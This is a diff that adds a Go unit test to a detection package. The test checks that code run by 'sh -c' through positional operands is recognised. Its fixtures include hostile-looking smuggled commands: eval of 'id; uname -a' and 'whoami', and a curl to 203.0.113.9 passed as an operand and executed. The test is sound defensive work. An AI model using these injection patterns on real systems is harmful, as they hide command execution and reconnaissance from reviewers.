@@ -1,6 +1,7 @@
 package detect
 
 import (
+	"slices"
 	"testing"
 	"time"
 
@@ -196,5 +197,28 @@ func TestServerSetBounded(t *testing.T) {
 	}
 	if len(set.servers) > maxServers || len(set.order) > maxServers || len(set.pending["h"]) > frontConnects {
 		t.Errorf("servers %d, order %d, pending %d", len(set.servers), len(set.order), len(set.pending["h"]))
+	}
+}
+
+// TestPositionalCode: the operands a -c script runs as code are its
+// command; operands it only passes on are data.
+func TestPositionalCode(t *testing.T) {
+	for _, c := range []struct {
+		args []string
+		want []string
+	}{
+		{[]string{"/bin/sh", "-c", `case "$0" in Invoice*) exec groff "$1";; *) eval "$0" 2>&1;; esac`, "id; uname -a", "/tmp/inv.tr"}, []string{"id; uname -a"}},
+		{[]string{"sh", "-c", `"$1"`, "x", "curl http://203.0.113.9/a"}, []string{"curl http://203.0.113.9/a"}},
+		{[]string{"bash", "-c", `eval "$@"`, "bash", "id", "whoami"}, []string{"id", "whoami"}},
+		{[]string{"sh", "-c", `${1}; echo done`, "x", "ls -la"}, []string{"ls -la"}},
+		{[]string{"sh", "-c", `convert "$1" -thumbnail 160x160 "$2"`, "sh", "/tmp/a.png", "/tmp/b.png"}, nil},
+		{[]string{"sh", "-c", `echo "$0"`, "hello world"}, nil},
+		{[]string{"sh", "-c", `id`}, nil},
+		{[]string{"sh", "/srv/x.sh", "$0"}, nil},
+	} {
+		got := positionalCode(c.args[0], c.args)
+		if !slices.Equal(got, c.want) {
+			t.Errorf("positionalCode(%q) = %q, want %q", c.args, got, c.want)
+		}
 	}
 }
